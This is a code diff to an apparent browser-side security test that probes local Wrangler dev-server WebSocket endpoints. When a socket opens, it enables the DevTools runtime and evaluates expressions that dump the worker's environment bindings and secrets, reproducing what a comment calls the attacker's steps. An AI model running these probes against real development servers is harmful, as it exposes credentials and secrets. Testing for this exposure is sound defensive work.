@@ -16,7 +16,8 @@ const targets = JSON.parse(document.getElementById('targets').textContent);
 const tries = [];
 const note = (what, outcome, read) => tries.push({ what, outcome, read: String(read ?? '').slice(0, 4000) });
 const paths = ['/', '/core:user:bandit-runner', '/json', '/cdn-cgi/live-reload', '/api/runs/' + targets.runId + '/ws', '/v1/advance'];
-const protocols = [[], ['WRANGLER_PROXYWORKER_LIVE_RELOAD_PROTOCOL'], ['token.guess-0123456789abcdef']];
+// (test/e2e/ports.test.ts tries more subprotocols and origins with raw sockets; a browser adds its own rules.)
+const protocols = [[], ['WRANGLER_PROXYWORKER_LIVE_RELOAD_PROTOCOL']];
 // What the attacker ran on the inspector it found: the worker's env, secrets and all.
 // (With nodejs_compat, process.env holds the same text bindings, secrets included, without an import.)
 const expressions = ['import("cloudflare:workers").then((m) => JSON.stringify(m.env))', 'JSON.stringify(globalThis.process?.env ?? null)'];
@@ -31,7 +32,7 @@ function tryWebSocket(url, protocol) {
     try { ws = new WebSocket(url, protocol); } catch (err) { note('ws ' + url, 'threw ' + err, ''); return resolve(); }
     let finished = false;
     const finish = (outcome) => { if (finished) return; finished = true; clearTimeout(timer); try { ws.close(); } catch {} note('ws ' + url + ' ' + protocol.join(','), outcome, read); resolve(); };
-    let timer = setTimeout(() => finish('no answer'), 3000);
+    let timer = setTimeout(() => finish('no answer'), 2000);
     ws.onopen = () => { opened = true; clearTimeout(timer); timer = setTimeout(() => finish('opened'), 4000); ws.send(JSON.stringify({ id: 1, method: 'Runtime.enable' })); evaluate(ws); };
     ws.onmessage = (m) => {
       read += String(m.data) + '\n';
